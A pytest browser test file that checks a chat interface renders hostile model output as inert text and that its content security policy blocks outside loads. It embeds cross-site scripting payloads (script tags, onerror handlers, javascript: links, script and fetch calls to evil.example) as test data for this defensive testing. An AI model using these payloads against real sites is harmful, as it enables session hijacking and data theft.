"""Answers that want to be more than text stay text."""

from pathlib import Path

import pytest

from tests.browser.serving import Serve

HOSTILE = r"""<script>window.hacked = 1</script>

<img src="https://evil.example/a.png" onerror="window.hacked = 2"><svg onload="window.hacked = 3"></svg>

<iframe src="javascript:parent.hacked = 4"></iframe><a href="javascript:hacked = 5" onclick="hacked = 5">x</a>

[click](javascript:window.hacked=6) [click](JaVaScRiPt:window.hacked=7) [click](&#106;avascript:window.hacked=8)
[data](data:text/html,<script>hacked=9</script>) [file](file:///etc/passwd) [here](/v1/models) [other](//evil.example/)

![picture](https://evil.example/b.png) ![picture](data:image/svg+xml,<svg/onload=hacked=10>)

`<script>window.hacked = 11</script>`

```html
<script>window.hacked = 12</script>
```

<style>* { display: none !important }</style><meta http-equiv="refresh" content="0;url=https://evil.example/">

[fine](https://example.com/page?a=1&b=2 "title\" onmouseover=\"hacked=13") <https://example.com/> mailto:a@example.com
"""


def test_nothing_of_it_becomes_live(serve: Serve) -> None:
    chat = serve(HOSTILE)
    chat.page.send("Be evil")
    chat.page.until_answered()
    text = chat.page.answer()
    for written in ("<script>window.hacked = 1</script>", "<img src=", "<iframe", "<style>", "window.hacked = 12"):
        assert written in text
    inside = ".assistant .text"
    for tag in ("script", "img", "iframe", "svg", "style", "meta", "object", "form", "input"):
        assert not chat.page.all(f"{inside} {tag}"), tag
    for link in chat.page.all(f"{inside} a"):
        chat.page.run("arguments[0].addEventListener('click', (e) => e.preventDefault())", link)
        link.click()
    chat.page.hover(chat.page.one(f"{inside} a"))
    assert chat.page.run("return window.hacked") is None
    attributes = "return [...document.querySelectorAll('.text *')].flatMap((e) => e.getAttributeNames())"
    assert set(chat.page.run(attributes)) <= {"href", "rel", "target", "tabindex"}


def test_links_lead_outside_and_tell_nothing(serve: Serve) -> None:
    chat = serve(HOSTILE)
    chat.page.send("Be evil")
    chat.page.until_answered()
    links = chat.page.all(".text a")
    addresses = [link.get_dom_attribute("href") or "" for link in links]
    assert addresses[-3:] == ["https://example.com/page?a=1&b=2", "https://example.com/", "mailto:a@example.com"]
    # Whole addresses that stand in the text are links too, whatever is around them; they are followed by who clicks.
    assert all(address.startswith(("https://", "mailto:")) for address in addresses)
    assert {link.get_dom_attribute("rel") for link in links} == {"noopener noreferrer"}
    assert {link.get_dom_attribute("target") for link in links} == {"_blank"}


def test_hostile_phrases_stay_phrases(serve: Serve, picture: Path) -> None:
    phrase = "<img src=x onerror=hacked=1>"
    chat = serve(
        f"<ref>{phrase}</ref><box>(1,200),(300,400)</box> [<ref>x</ref><box>(1,2),(3,4)</box>](javascript:hacked=2)"
    )
    chat.page.attach(picture)
    chat.page.send("Be evil")
    chat.page.until_answered()
    assert chat.page.texts(".text mark")[0] == phrase
    assert chat.page.texts(".labels span")[0] == phrase
    assert chat.page.run("return window.hacked") is None
    assert len(chat.page.all(".figure img")) == 1


def test_hostile_questions_titles_and_errors(serve: Serve, allowed_noise: list[str]) -> None:
    allowed_noise.append("400 (Bad Request)")
    chat = serve("Fine.")
    chat.page.send("<img src=x onerror=hacked=1> refuse me")
    chat.page.until_answered()
    assert chat.page.texts(".user .bubble") == ["<img src=x onerror=hacked=1> refuse me"]
    assert chat.page.texts(".conversation") == ["<img src=x onerror=hacked=1> refuse me"]
    chat.page.reload()
    chat.page.one(".conversation").click()
    chat.page.until(lambda: chat.page.all(".turn"))
    assert chat.page.run("return window.hacked") is None


@pytest.mark.parametrize(
    ("attempt", "directive"),
    [
        (
            "const s = document.createElement('script'); s.src = 'https://evil.example/a.js'; document.body.append(s)",
            "trusted",
        ),
        ("const i = new Image(); i.src = 'https://evil.example/a.png'", "img-src"),
        ("document.body.insertAdjacentHTML('beforeend', '<b>x</b>')", "trusted"),
        ("fetch('https://evil.example/').catch(() => {})", "connect-src"),
        (
            "const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f)",
            "frame-src",
        ),
        ("document.body.setAttribute('style', 'color: red')", "style-src"),
    ],
    ids=["script", "image", "html", "fetch", "frame", "style"],
)
def test_the_browser_stops_what_the_page_would_not_do(
    serve: Serve, allowed_noise: list[str], attempt: str, directive: str
) -> None:
    allowed_noise.append("")
    chat = serve("Fine.")
    chat.page.run(
        "window.stopped = []; document.addEventListener('securitypolicyviolation', (e) => "
        "stopped.push(e.violatedDirective))"
    )
    chat.page.run(f"try {{ {attempt} }} catch {{}}")
    chat.page.until(lambda: any(directive in stopped for stopped in chat.page.run("return window.stopped")))


def test_markdown_is_shown(serve: Serve) -> None:
    chat = serve(
        "# Title\n\nSome *soft* and **strong** words\non two lines.\n\n1. one\n2. two\n   - three\n\n> said\n\n"
        "| a | b |\n| --- | --: |\n| 1 | 2 |\n\n---\n\n~~gone~~ `code`\n\n```py\nprint(1 < 2)\n```\n"
    )
    chat.page.send("Format")
    chat.page.until_answered()
    for selector, text in {
        "h3": "Title",
        "em": "soft",
        "strong": "strong",
        "ol > li:first-child": "one",
        "ol ul li": "three",
        "blockquote": "said",
        "td.to-right": "2",
        "s": "gone",
        "p code": "code",
        "pre code": "print(1 < 2)",
    }.items():
        assert chat.page.texts(f".text {selector}") == [text], selector
    assert chat.page.all(".text hr")
